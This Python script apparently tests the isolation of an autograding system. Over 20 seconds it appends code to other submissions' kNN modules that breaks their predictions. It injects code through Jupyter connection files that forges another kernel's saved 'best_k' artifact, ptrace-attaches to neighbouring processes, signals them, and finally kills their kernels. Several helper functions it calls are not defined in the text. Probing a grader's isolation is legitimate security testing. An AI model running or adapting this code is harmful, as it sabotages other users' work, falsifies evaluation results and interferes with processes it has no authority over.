# gkatk: for 20 s, reach the other submissions graded beside this one: write into their scratch
# folders, reach their kernels through the kernels' connection files, ptrace them, signal them
# (and in the end kill their kernels). Prints what it achieved as one GKATK-NEIGHBOUR line.
import ctypes
import glob
import json
import os
import signal
import time



own = _gk_scratch(os.getcwd())  # this submission's scratch folder
report = {"start": time.time(), "targets": [], "scratch_written": [], "kernels_reached": [],
          "kernels_injected": [], "ptraced": [], "signalled": [], "killed": []}
SABOTAGE = "\n# gkatk: sabotage\nKNearestNeighbor.predict_labels = lambda self, dists, k=1: np.zeros(dists.shape[0]) - 1\n"
INJECTED = """
import os
if os.path.isfile("gkatk-marker.txt"):  # only a kernel of this suite's submissions
    import cs231n.artifacts as _gk_artifacts
    _gk_save = _gk_artifacts.save_artifact
    _gk_artifacts.save_artifact = lambda d, n, **k: _gk_save(d, n, **{**k, "best_k": 5000})
"""
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def cwd_of(pid):
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return ""


def targets():
    """{pid: (its submission folder, its arguments)} of the other submissions' kernels and check
    workers (their folder: a working folder or an argument of theirs)."""
    found = {}
    for pid, args in _gk_processes():
        if pid in (os.getpid(), os.getppid()) or not any("ipykernel" in a or "autograde.worker" in a for a in args):
            continue
        for folder in [cwd_of(pid), *args]:
            if _gk_marked(folder) and not folder.startswith(own + os.sep):
                found[pid] = (folder, args)
                break
    return found


def scratch_folders(found):
    """The other submissions' scratch copies: from their processes, and from /tmp."""
    copies = {_gk_scratch(folder) for folder, _ in found.values()}
    copies |= {_gk_scratch(p) for p in glob.glob("/tmp/gradekit-*/**/gkatk-marker.txt", recursive=True)}
    return sorted(c for c in copies if c != own)


def write_into(scratch):
    """Append the sabotage to every copy of the kNN module in `scratch`, at any depth."""
    for module in [os.path.join(p, "classifiers", "k_nearest_neighbor.py") for p in _gk_packages(scratch)]:
        if os.path.isfile(module) and module not in report["scratch_written"]:
            try:
                with open(module, "a") as f:
                    f.write(SABOTAGE)
                report["scratch_written"].append(module)
            except OSError:
                pass


def connection_files(found):
    """(connection file, may inject): those of the other submissions' kernels (from their command
    lines), and any recent one in the usual runtime folders (reached, never injected into)."""
    files = [(args[args.index("-f") + 1], True) for _, args in found.values() if "-f" in args[:-1]]
    for pattern in ("~/.local/share/jupyter/runtime/kernel-*.json", "/run/user/*/jupyter/kernel-*.json",
                    "/tmp/tmp*.json", "/tmp/*/kernel-*.json", "/tmp/*/connection.json"):
        for path in glob.glob(os.path.expanduser(pattern)):
            try:
                if time.time() - os.path.getmtime(path) < 600:
                    files.append((path, False))
            except OSError:
                pass
    return files


def reach(path, inject):
    from jupyter_client import BlockingKernelClient

    client = BlockingKernelClient()
    try:
        client.load_connection_file(path)
        client.start_channels()
        client.control_channel.send(client.session.msg("kernel_info_request"))
        client.control_channel.get_msg(timeout=3)
        report["kernels_reached"].append(path)
        if inject:
            client.execute(INJECTED)  # runs before the kernel's next cell
            report["kernels_injected"].append(path)
    except Exception:  # noqa: BLE001
        pass
    finally:
        client.stop_channels()


def ptrace(pid):
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        try:
            os.waitpid(pid, 0x40000000)  # __WALL
        except OSError:
            pass
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        report["ptraced"].append(pid)


with open("/proc/self/cmdline", "rb") as f:
    own_args = f.read().decode().split("\0")
tried = {own_args[own_args.index("-f") + 1]} if "-f" in own_args[:-1] else set()
while time.time() - report["start"] < 20:
    found = targets()
    for scratch in scratch_folders(found):
        write_into(scratch)
    for path, inject in connection_files(found):
        if path not in tried:
            tried.add(path)
            reach(path, inject)
    for pid, (folder, args) in found.items():
        if pid not in report["targets"]:
            report["targets"].append(pid)
            ptrace(pid)
            try:
                os.kill(pid, 0)
                report["signalled"].append(pid)
            except OSError:
                pass
    time.sleep(0.5)
for pid, (folder, args) in targets().items():
    if any("ipykernel" in a for a in args) and _gk_marked(cwd_of(pid)):
        try:
            os.kill(pid, signal.SIGKILL)
            report["killed"].append(pid)
        except OSError:
            pass
report["end"] = time.time()
print("GKATK-NEIGHBOUR " + json.dumps(report))
